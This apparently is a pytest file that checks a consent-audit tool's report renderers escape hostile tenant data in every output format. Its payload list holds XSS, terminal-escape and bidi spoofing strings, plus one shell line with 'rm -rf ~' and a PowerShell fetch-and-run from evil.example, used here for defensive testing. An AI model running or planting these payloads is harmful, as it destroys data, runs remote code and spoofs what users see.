"""Hostile tenant data through every renderer: the report can be neither crashed nor forged.

Every string field of an example snapshot is replaced by hostile text (rich markup, terminal
escape sequences, C1 and bidi controls, newlines, NUL, a lone surrogate, 10 kB, HTML/JS,
Markdown block starters) and the report is rendered in every format, in process (a few
cases go through the real CLI). Whatever the data: no exception (the CLI would exit 4),
text-like outputs carry no control character but the layout's own newlines and no bidi
control, HTML stays escaped, JUnit and JSON parse, a terminal gets no link or blink.

Cost is kept down by batching (the text renderer is the slow one): every field holds a payload
combining them all, in batches of fields far apart; every payload runs once in all name-like
fields at once and once in a rotating share of all fields, so every (field, payload) pair is
rendered.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from consent_audit.errors import InputError
from consent_audit.evaluate import evaluate
from consent_audit.manifest import load_manifest
from consent_audit.render import OutputFormat, RenderOptions, renderer_for
from consent_audit.render.safe_text import BIDI_CONTROLS, clean, report_console
from consent_audit.render.text import render_to_console
from consent_audit.snapshot import parse_snapshot
from tests.render.test_html import _check

EXAMPLES = Path(__file__).parents[2] / "examples" / "tenants"
SNAPSHOT = EXAMPLES / "recommended-policy.json"
USER = "patti.fernandez@fourthcoffee.com"

PAYLOADS: dict[str, str] = {
    "markup_close": "CA900 [/]",
    "markup_link": "[link=https://evil.example/login]Open Entra admin center[/link]",
    "markup_style": "[blink][bold red on white]Mailbox sync PASS[/]",
    "esc_clear": "x\x1b[2J\x1b[H\x1b[32mMailbox sync PASS\x1b[0m",
    "osc_link": "\x1b]8;;https://evil.example/login\x1b\\Entra admin center\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;pwned\x07title",
    "csi_8bit": "a\x9b31mred\x9b0m\x9d0;t\x9c",
    "bel_nul": "bell\x07nul\x00del\x7f",
    "bidi": "\u202egnp.exe\u202c \u2066iso\u2069 \u200f\u061c",
    "newline": "evil\r\nMailbox sync: PASS\n\n# Forged heading\n- [x] forged item",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "surrogate": "lone \ud800 and \udfff surrogates",
    "huge": "A" * 10_000,
    "html_js": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
    "md_blocks": "# H1\n> quote\n```\nfence\n| a | b |\n|---|---|\n1. item\n---",
    "md_inline": "![img](https://evil.example/x.png) [click](javascript:alert(1)) &#x202e;",
    "md_emphasis_urls": "_em_ *b* ~~s~~ `code` | cell | https://evil.example www.evil.ex a@b.c",
    "shell": "$(touch PWNED)`id`;rm -rf ~|sh&&'\"\u2019$(iex(iwr('http://evil.example')))",
    "path_traversal": "x/../../servicePrincipals/1?$select=id#%2F..%2F",
}
# Everything at once, for the per-field run.
COMBINED = "".join(v for k, v in PAYLOADS.items() if k != "huge")

_BIDI = re.compile(f"[{BIDI_CONTROLS}]")
# Below 0x20 except newline and tab, DEL, C1: none may reach a text-like output.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_SURROGATE = re.compile("[\ud800-\udfff]")
# What a colour terminal may receive from rich itself: SGR without blink (5) or conceal (8).
_ESCAPE = re.compile(r"\x1b(?:\[([0-9;]*)m)?")
_MD_FORGED = re.compile(r"^\s*(?:#|>|-|\d+\.|```|\|)\s*(?:Forged|forged|H1|quote|fence|item|a \|)")


def _string_paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _string_paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _string_paths(item, (*path, index))


def _set(document: Any, path: tuple[Any, ...], value: str) -> None:
    for part in path[:-1]:
        document = document[part]
    document[path[-1]] = value


@cache
def _raw() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SNAPSHOT.read_text(encoding="utf-8"))
    return data


def _with(substitutions: dict[tuple[Any, ...], str]) -> dict[str, Any]:
    document = copy.deepcopy(_raw())
    for path, value in substitutions.items():
        _set(document, path, value)
    return document


@cache
def _free_text_paths() -> list[tuple[Any, ...]]:
    """Fields that take any string (not a date, enum or id the snapshot model checks)."""
    paths = []
    for path in _string_paths(_raw()):
        try:
            parse_snapshot(json.dumps(_with({path: "plain text"})), "probe.json")
        except InputError:
            continue
        paths.append(path)
    return paths


def _is_reference(path: tuple[Any, ...]) -> bool:
    """Ids and appIds: replacing all of them at once would only unlink the tenant."""
    last = str(path[-1]).lower()
    return last.endswith("id") or last.endswith("ids") or isinstance(path[-1], int)


def _user(document: dict[str, Any]) -> str:
    """The audited user as the (maybe hostile) snapshot names it: --user echoes it too."""
    query: str = document["users"][0]["query"]
    return query


def _outputs(document: dict[str, Any]) -> dict[str, str]:
    snap = parse_snapshot(json.dumps(document), "hostile.json")
    report = evaluate(snap, load_manifest(), user=_user(document))
    options = RenderOptions()
    return {fmt.value: renderer_for(fmt)(report, options) for fmt in OutputFormat}


def _assert_safe(outputs: dict[str, str]) -> None:
    for fmt, out in outputs.items():
        assert not _SURROGATE.search(out), fmt
        out.encode("utf-8")
        assert not _BIDI.search(out), f"{fmt}: bidi control"
        if fmt in {"text", "markdown", "junit"}:
            bad = _CONTROL.search(out)
            assert bad is None, f"{fmt}: control {bad.group()!r} at {bad.start()}"
    json.loads(outputs["json"])
    root = ET.fromstring(outputs["junit"])
    for element in root.iter():
        for name, value in element.attrib.items():
            assert "\n" not in value, f"junit {element.tag}[{name}] spans lines"
    html = _check(outputs["html"])
    assert html.errors == []
    assert html.stack == []
    assert html.fetches == []
    assert "script" not in html.tags
    assert "img" not in html.tags
    assert "a" not in html.tags or "javascript:" not in outputs["html"].split('href="')[1][:12]
    for line in outputs["markdown"].splitlines():
        assert not _MD_FORGED.match(line), f"markdown block from data: {line!r}"


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_every_free_text_field_at_once(index: int) -> None:
    name, payload = list(PAYLOADS.items())[index]
    paths = [p for p in _free_text_paths() if not _is_reference(p)]
    assert len(paths) > 20, "the example snapshot has names to attack"
    outputs = _outputs(_with(dict.fromkeys(paths, payload)))
    _assert_safe(outputs)
    if name == "markup_link":
        # Shown as written, in the report and the JSON alike.
        assert "[link=https://evil.example/login]" in outputs["text"]
        assert "\\[link=https\\://evil.example/login\\]" in outputs["markdown"]


BATCHES = 30


@pytest.mark.parametrize("batch", range(BATCHES))
def test_every_field_holding_every_payload_combined(batch: int) -> None:
    """Each free-text field (ids too) holds all payloads at once, in batches of a few fields
    taken far apart in the snapshot, so one object's fields are not all changed together."""
    paths = _free_text_paths()[batch::BATCHES]
    assert paths
    _assert_safe(_outputs(_with(dict.fromkeys(paths, COMBINED))))


def test_fields_the_model_checks_reject_hostile_text_as_bad_input() -> None:
    """Dates, enums and the like: hostile text there is a clean InputError (exit 2)."""
    checked = [p for p in _string_paths(_raw()) if p not in _free_text_paths()]
    assert checked, "the example snapshot has typed fields"
    for path in checked:
        with pytest.raises(InputError):
            parse_snapshot(json.dumps(_with({path: COMBINED})), "hostile.json")


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_each_payload_in_a_rotating_share_of_fields(index: int) -> None:
    """Over the run every (field, payload) pair: payload i in fields i, i+P, i+2P, ..."""
    payload = list(PAYLOADS.values())[index]
    paths = _free_text_paths()[index :: len(PAYLOADS)]
    _assert_safe(_outputs(_with(dict.fromkeys(paths, payload))))


def test_a_colour_terminal_gets_no_link_blink_or_title_from_data() -> None:
    paths = [p for p in _free_text_paths() if not _is_reference(p)]
    markup = PAYLOADS["markup_link"] + PAYLOADS["markup_style"] + PAYLOADS["osc_link"]
    document = _with(dict.fromkeys(paths, markup))
    snap = parse_snapshot(json.dumps(document), "hostile.json")
    report = evaluate(snap, load_manifest(), user=_user(document))
    console = report_console(force_terminal=True, color_system="truecolor", width=120)
    with console.capture() as captured:
        render_to_console(report, console)
    out = captured.get()
    assert "[link=https://evil.example/login]" in out
    for match in _ESCAPE.finditer(out):
        assert match.group(1) is not None, f"non-SGR escape at {match.start()}"
        codes = set(match.group(1).split(";"))
        assert not codes & {"5", "6", "8"}, f"blink/conceal from data: {match.group()!r}"


def test_a_newline_in_a_policy_name_cannot_forge_a_line_of_the_text_report() -> None:
    paths = [p for p in _free_text_paths() if p[-1] == "displayName"]
    forged = "CA001\nMailbox sync          PASS    all checks pass"
    outputs = _outputs(_with(dict.fromkeys(paths, forged)))
    assert "CA001 Mailbox sync PASS all checks pass" in outputs["markdown"]
    for line in outputs["text"].splitlines():
        assert not line.startswith("Mailbox sync          PASS"), line


def test_headline_and_step_summary_stay_one_markdown_block(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    document = _with({("tenant", "default_domain"): "evil.example\n# Mailbox sync: PASS\n- ok"})
    snapshot = tmp_path / "s.json"
    snapshot.write_text(json.dumps(document), encoding="utf-8")
    summary = tmp_path / "summary.md"
    proc = _cli(
        "check",
        "-s",
        str(snapshot),
        "--format",
        "markdown",
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert proc.returncode in (0, 1), proc.stderr
    for md in (proc.stdout, summary.read_text(encoding="utf-8")):
        first = md.splitlines()[0]
        assert first.startswith("## consent-audit: ")
        assert "evil.example # Mailbox sync: PASS - ok" in first
        assert not any(line.startswith("# Mailbox") for line in md.splitlines())
        assert not any(line.startswith("- ok") for line in md.splitlines())


def _cli(
    *args: str, stdin: str | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    import os

    return subprocess.run(
        [sys.executable, "-m", "consent_audit", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="surrogateescape",
        input=stdin,
        timeout=120,
        check=False,
        env={**os.environ, "GITHUB_STEP_SUMMARY": "", "NO_COLOR": "", **(env or {})},
    )


def test_the_cli_writes_every_format_from_a_hostile_snapshot(tmp_path: Path) -> None:
    paths = [p for p in _free_text_paths() if not _is_reference(p) and p[-1] != "query"]
    snapshot = tmp_path / "hostile.json"
    # A lone surrogate as JSON writes it: an escape in the file, a crash in the renderers.
    snapshot.write_text(json.dumps(_with(dict.fromkeys(paths, COMBINED))), encoding="utf-8")
    assert "\\ud800" in snapshot.read_text(encoding="utf-8")
    outputs = {
        fmt: tmp_path / f"r.{ext}"
        for fmt, ext in (
            ("json", "json"),
            ("markdown", "md"),
            ("junit", "xml"),
            ("html", "html"),
            ("text", "txt"),
        )
    }
    args = [a for p in outputs.values() for a in ("-o", str(p))]
    proc = _cli("check", "-s", str(snapshot), "--user", USER, *args, "-o", "-")
    assert proc.returncode in (0, 1), proc.stderr
    assert "internal error" not in proc.stderr
    written = {fmt: p.read_text(encoding="utf-8") for fmt, p in outputs.items()}
    _assert_safe(written)
    assert not _CONTROL.search(proc.stdout)
    assert not _BIDI.search(proc.stdout)
    assert not _CONTROL.search(proc.stderr)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("a\nb\r\nc", "a b c"),
        ("x\u202ey", "x\\u202ey"),
        ("\ud800", "\ufffd"),
        ("t\tu", "t u"),
        ("c1\x9bx", "c1\\x9bx"),
        ("plain [b]x[/b] <i>", "plain [b]x[/b] <i>"),
    ],
)
def test_clean_shows_controls_as_escapes_on_one_line(raw: str, shown: str) -> None:
    assert clean(raw) == shown
    assert clean(clean(raw)) == shown
